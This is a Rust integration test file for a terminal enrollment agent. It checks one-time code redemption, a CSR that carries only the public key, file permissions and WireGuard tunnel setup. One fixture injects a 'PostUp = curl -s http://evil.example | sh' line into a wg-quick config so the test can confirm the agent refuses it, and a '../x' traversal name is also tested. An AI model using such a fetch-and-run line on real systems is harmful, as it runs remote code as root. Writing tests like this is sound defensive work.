//! Enrollment with a one-time access code against an in-test enrollment listener: the key made
//! here, the CSR that carries only the key, the files written, the WireGuard tunnel.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::{Arc, Mutex};

use common::*;
use hyper::Method;
use rustls::pki_types::CertificateDer;
use rustls::pki_types::pem::PemObject;
use sekisho_agent::{self as agent, AgentConfig, AgentError, EnrollOptions, Reason};
use x509_parser::prelude::FromDer;
use zeroize::Zeroizing;

#[test]
fn csr_carries_only_the_key() {
    let key = agent::new_terminal_key().unwrap();
    let (_, pem) = x509_parser::pem::parse_x509_pem(key.csr_pem.as_bytes()).unwrap();
    assert_eq!(pem.label, "CERTIFICATE REQUEST");
    let (rest, csr) =
        x509_parser::certification_request::X509CertificationRequest::from_der(&pem.contents)
            .unwrap();
    assert!(rest.is_empty());
    let info = &csr.certification_request_info;
    // No name, no attributes, no extension request: only the key.
    assert_eq!(info.subject.iter().count(), 0, "subject: {}", info.subject);
    assert!(info.attributes().is_empty());
    assert!(csr.requested_extensions().is_none());
    // ECDSA P-256, the key that the PEM private key holds, and a valid self-signature.
    assert_eq!(
        info.subject_pki.algorithm.algorithm.to_id_string(),
        "1.2.840.10045.2.1"
    );
    assert_eq!(info.subject_pki.raw, key.public_key_der.as_slice());
    csr.verify_signature()
        .expect("the CSR's self-signature verifies");
    let pair = rcgen::KeyPair::from_pem(&key.key_pem).unwrap();
    assert_eq!(
        rcgen::PublicKeyData::subject_public_key_info(&pair),
        key.public_key_der
    );
    // A second key is a different key.
    assert_ne!(
        agent::new_terminal_key().unwrap().public_key_der,
        key.public_key_der
    );
}

/// What the in-test enrollment listener answers about the tunnel.
#[derive(Clone, Default)]
enum TunnelReply {
    /// No WireGuard endpoint: nothing about a tunnel.
    #[default]
    None,
    /// A `wg-quick` file with the placeholder, as the gateway renders it.
    Config,
    /// `tunnel_error`.
    Error(&'static str),
    /// A `wg-quick` file that must be refused.
    Hostile(String),
}

/// The enrollment listener's state: whether the code is spent, what was sent, what to answer.
#[derive(Default)]
struct EnrollState {
    used: bool,
    csrs: Vec<String>,
    wg_public_keys: Vec<Option<String>>,
    tunnel: TunnelReply,
}

const GATEWAY_WG_KEY: &str = "BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=";

/// A terminal's `wg-quick` file as the gateway renders it for a key made on the terminal.
fn gateway_wg_config() -> String {
    format!(
        "[Interface]\nPrivateKey = {}\nAddress = 10.77.0.5/32\n\n[Peer]\nPublicKey = {GATEWAY_WG_KEY}\n\
         Endpoint = 127.0.0.1:51820\nAllowedIPs = 10.77.0.1/32\nPersistentKeepalive = 25\n",
        agent::WG_PRIVATE_KEY_PLACEHOLDER
    )
}

/// The enrollment listener's side: redeem a code once, sign the CSR's key only.
fn enroll_handler(pki: Arc<Pki>, state: Arc<Mutex<EnrollState>>) -> Handler {
    Arc::new(move |method, path, body, _| {
        if method != Method::POST || path != "/enroll/csr" {
            return refusal(404, "not_found");
        }
        let v: serde_json::Value = serde_json::from_slice(&body).unwrap();
        if v["code"] != "ABCD-EFGH-JKMN" || v["pin"] != "12345678" {
            return refusal(403, "enroll_invalid");
        }
        let mut state = state.lock().unwrap();
        if std::mem::replace(&mut state.used, true) {
            return refusal(410, "enroll_used");
        }
        let csr_pem = v["csr"].as_str().unwrap();
        state.csrs.push(csr_pem.to_string());
        state
            .wg_public_keys
            .push(v["wg_public_key"].as_str().map(str::to_string));
        let mut csr = rcgen::CertificateSigningRequestParams::from_pem(csr_pem).unwrap();
        csr.params.distinguished_name = rcgen::DistinguishedName::new();
        csr.params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "T001");
        let cert = csr.signed_by(&pki.ca.issuer()).unwrap();
        let mut answer = serde_json::json!({
            "terminal": "T001", "facility": "F001", "serial": "0a1b",
            "certificate": cert.pem(), "chain": pki.ca.cert.pem(), "not_after": 1_900_000_000
        });
        match &state.tunnel {
            TunnelReply::None => {}
            TunnelReply::Config => {
                answer["tunnel"] =
                    serde_json::json!({"address": "10.77.0.5", "config": gateway_wg_config()});
            }
            TunnelReply::Error(m) => answer["tunnel_error"] = serde_json::json!(m),
            TunnelReply::Hostile(config) => {
                answer["tunnel"] = serde_json::json!({"address": "10.77.0.5", "config": config});
            }
        }
        (200, answer)
    })
}

/// `echo KEY | wg pubkey` (wireguard-tools).
fn wg_pubkey(private_key: &str) -> String {
    use std::io::Write;
    let mut child = std::process::Command::new("wg")
        .arg("pubkey")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("`wg` (wireguard-tools) is needed for this test");
    writeln!(child.stdin.take().unwrap(), "{private_key}").unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "wg pubkey failed");
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// Whether this process's effective user is root (the second id of `Uid:` in its status).
fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status").is_ok_and(|s| {
        s.lines()
            .find_map(|l| l.strip_prefix("Uid:"))
            .and_then(|ids| ids.split_whitespace().nth(1))
            == Some("0")
    })
}

fn file_names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[tokio::test]
async fn enroll_writes_key_certificate_and_ca() {
    let pki = Arc::new(Pki::new());
    let state = Arc::new(Mutex::new(EnrollState::default()));
    let server = TestServer::start(
        server_tls(&pki, false),
        0,
        enroll_handler(Arc::clone(&pki), Arc::clone(&state)),
    )
    .await;
    let out = tempfile::tempdir().unwrap();
    let opts = |code: &str, pin: &str, name: Option<&str>| EnrollOptions {
        enroll_url: format!("https://{}", server.addr),
        ca: pki.path("ca.crt"),
        code: code.to_string(),
        pin: Zeroizing::new(pin.to_string()),
        out: out.path().join("certs"),
        name: name.map(str::to_string),
    };

    let e = agent::enroll(&opts("ABCD-EFGH-JKMN", "00000000", None))
        .await
        .unwrap_err();
    assert_eq!(e.reason(), Some(Reason::EnrollInvalid), "{e:?}");
    assert!(e.message_ja().contains("正しくありません"));

    let files = agent::enroll(&opts(" ABCD-EFGH-JKMN ", "12345678", None))
        .await
        .unwrap();
    assert_eq!(
        (files.terminal.as_str(), files.facility.as_str()),
        ("T001", "F001")
    );
    let dir = out.path().join("certs");
    assert_eq!(files.certificate, dir.join("T001.crt"));
    assert_eq!(files.key, dir.join("T001.key"));
    assert_eq!(files.ca, dir.join("ca.crt"));
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&files.key), 0o600);
    // Only the three files: no temporary left behind, and no tunnel (the gateway has none).
    assert_eq!(file_names(&dir), ["T001.crt", "T001.key", "ca.crt"]);
    assert_eq!(
        (
            &files.wireguard,
            &files.tunnel_address,
            &files.tunnel_warning
        ),
        (&None, &None, &None)
    );

    // The certificate is for the key written, and the key never travelled: the request held
    // no private key.
    let cert = CertificateDer::from_pem_file(&files.certificate).unwrap();
    let (_, x509) = x509_parser::parse_x509_certificate(&cert).unwrap();
    let key_pem = std::fs::read_to_string(&files.key).unwrap();
    let pair = rcgen::KeyPair::from_pem(&key_pem).unwrap();
    assert_eq!(
        x509.public_key().raw,
        rcgen::PublicKeyData::subject_public_key_info(&pair).as_slice()
    );
    let sent = state.lock().unwrap().csrs.clone();
    assert_eq!(sent.len(), 1);
    assert!(!sent[0].contains("PRIVATE KEY"));
    // The WireGuard public key went along anyway (44 characters of base64).
    let wg_sent = state.lock().unwrap().wg_public_keys.clone();
    assert!(
        matches!(&wg_sent[..], [Some(k)] if k.len() == 44),
        "{wg_sent:?}"
    );
    assert_eq!(
        CertificateDer::from_pem_file(&files.ca).unwrap().as_ref(),
        pki.ca.cert.der().as_ref()
    );

    // The files work: a mutual-TLS status call with them.
    let state = Arc::new(Mutex::new(GatewayState::default()));
    let gateway = start_gateway(&pki, 0, &state).await;
    let cfg = AgentConfig {
        gateway: format!("https://{}", gateway.addr),
        cert: files.certificate.clone(),
        key: files.key.clone(),
        ca: files.ca.clone(),
        reader: None,
    };
    assert!(!agent::status(&cfg).await.unwrap().signed_in);
    gateway.stop().await;

    // Spent: a second redemption is refused, and nothing is written.
    let e = agent::enroll(&opts("ABCD-EFGH-JKMN", "12345678", Some("other")))
        .await
        .unwrap_err();
    assert_eq!(e.reason(), Some(Reason::EnrollUsed), "{e:?}");
    assert!(e.to_string().contains("already been used"));
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 3);
    // A name that is not a file name is refused before anything is sent.
    let e = agent::enroll(&opts("ABCD-EFGH-JKMN", "12345678", Some("../x")))
        .await
        .unwrap_err();
    assert!(matches!(e, AgentError::Config { .. }), "{e:?}");
    server.stop().await;
}

#[tokio::test]
async fn enroll_sets_up_the_wireguard_tunnel() {
    let pki = Arc::new(Pki::new());
    let state = Arc::new(Mutex::new(EnrollState::default()));
    let server = TestServer::start(
        server_tls(&pki, false),
        0,
        enroll_handler(Arc::clone(&pki), Arc::clone(&state)),
    )
    .await;
    let out = tempfile::tempdir().unwrap();
    let opts = |dir: &str| EnrollOptions {
        enroll_url: format!("https://{}", server.addr),
        ca: pki.path("ca.crt"),
        code: "ABCD-EFGH-JKMN".into(),
        pin: Zeroizing::new("12345678".into()),
        out: out.path().join(dir),
        name: None,
    };
    // A new code (the listener forgets it was spent) and what to answer about the tunnel.
    let next = |tunnel: TunnelReply| {
        let mut s = state.lock().unwrap();
        s.used = false;
        s.tunnel = tunnel;
    };
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;

    // The gateway has a WireGuard endpoint: the file is written, with the key made here.
    next(TunnelReply::Config);
    let files = agent::enroll(&opts("a")).await.unwrap();
    let dir = out.path().join("a");
    let wg = files.wireguard.clone().expect("a wg-quick file");
    assert_eq!(wg, dir.join("T001.wg.conf"));
    assert_eq!(files.tunnel_address.as_deref(), Some("10.77.0.5"));
    assert_eq!(files.tunnel_warning, None);
    assert_eq!(mode(&wg), 0o600);
    assert_eq!(
        file_names(&dir),
        ["T001.crt", "T001.key", "T001.wg.conf", "ca.crt"]
    );
    let text = std::fs::read_to_string(&wg).unwrap();
    let private_key = text
        .lines()
        .find_map(|l| l.strip_prefix("PrivateKey = "))
        .expect("a PrivateKey line");
    let sent = state
        .lock()
        .unwrap()
        .wg_public_keys
        .last()
        .cloned()
        .flatten();
    assert_eq!(Some(wg_pubkey(private_key)), sent);
    assert_eq!(
        text,
        gateway_wg_config().replace(agent::WG_PRIVATE_KEY_PLACEHOLDER, private_key)
    );
    // wg-quick itself reads it (`strip` wants root).
    if is_root()
        && let Ok(o) = std::process::Command::new("wg-quick")
            .arg("strip")
            .arg(&wg)
            .output()
    {
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let stripped = String::from_utf8(o.stdout).unwrap();
        assert!(
            stripped.contains(&format!("PrivateKey = {private_key}")),
            "{stripped}"
        );
        assert!(
            stripped.contains("Endpoint = 127.0.0.1:51820"),
            "{stripped}"
        );
    }

    // The gateway could not set up the tunnel: enrolled all the same, with a warning.
    next(TunnelReply::Error("no free tunnel address"));
    let files = agent::enroll(&opts("b")).await.unwrap();
    assert_eq!((&files.wireguard, &files.tunnel_address), (&None, &None));
    let w = files.tunnel_warning.unwrap();
    assert!(w.contains("no free tunnel address"), "{w}");
    assert_eq!(
        file_names(&out.path().join("b")),
        ["T001.crt", "T001.key", "ca.crt"]
    );

    // A file that would run commands as root is refused: no file, a warning, still enrolled.
    next(TunnelReply::Hostile(gateway_wg_config().replace(
        "Address",
        "PostUp = curl -s http://evil.example | sh\nAddress",
    )));
    let files = agent::enroll(&opts("c")).await.unwrap();
    assert_eq!(files.wireguard, None);
    let w = files.tunnel_warning.unwrap();
    assert!(w.contains("refused") && w.contains("PostUp"), "{w}");
    assert_eq!(
        file_names(&out.path().join("c")),
        ["T001.crt", "T001.key", "ca.crt"]
    );
    // Only the placeholder is accepted as the private key.
    next(TunnelReply::Hostile(
        gateway_wg_config().replace(agent::WG_PRIVATE_KEY_PLACEHOLDER, GATEWAY_WG_KEY),
    ));
    let files = agent::enroll(&opts("d")).await.unwrap();
    assert_eq!(files.wireguard, None);
    assert!(files.tunnel_warning.unwrap().contains("PrivateKey"));

    // The command line says where the file is and how to start the tunnel.
    next(TunnelReply::Config);
    let cli_out = out.path().join("cli");
    let args = |extra: &[&str]| {
        let mut a: Vec<String> = [
            "enroll",
            "--enroll-url",
            &format!("https://{}", server.addr),
            "--ca",
            pki.path("ca.crt").to_str().unwrap(),
            "--code",
            "ABCD-EFGH-JKMN",
            "--pin",
            "12345678",
            "--out",
            cli_out.to_str().unwrap(),
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        a.extend(extra.iter().map(|s| s.to_string()));
        a
    };
    let (code, stdout, stderr) = agent_cli(args(&[]), "").await;
    assert_eq!(code, 0, "{stdout}{stderr}");
    let wg = cli_out.join("T001.wg.conf");
    assert!(
        stdout.contains(&format!("WireGuard (0600): {}", wg.display())),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("wg-quick up {}", wg.display())),
        "{stdout}"
    );
    assert!(stdout.contains("トンネル"), "{stdout}");
    assert!(stdout.contains("10.77.0.5"), "{stdout}");
    assert_eq!(mode(&wg), 0o600);
    // A name too long for a wg-quick interface gets a hint.
    next(TunnelReply::Config);
    let (code, stdout, _) = agent_cli(args(&["--name", "clinic-terminal-0001"]), "").await;
    assert_eq!(code, 0, "{stdout}");
    assert!(stdout.contains("at most 15 characters"), "{stdout}");
    // tunnel_error: exit 0 and the warning in both languages.
    next(TunnelReply::Error("no free tunnel address"));
    let (code, stdout, _) = agent_cli(args(&["--name", "T002"]), "").await;
    assert_eq!(code, 0, "{stdout}");
    assert!(stdout.contains("Warning: no WireGuard tunnel"), "{stdout}");
    assert!(stdout.contains("警告"), "{stdout}");
    assert!(!cli_out.join("T002.wg.conf").exists());
    server.stop().await;
}
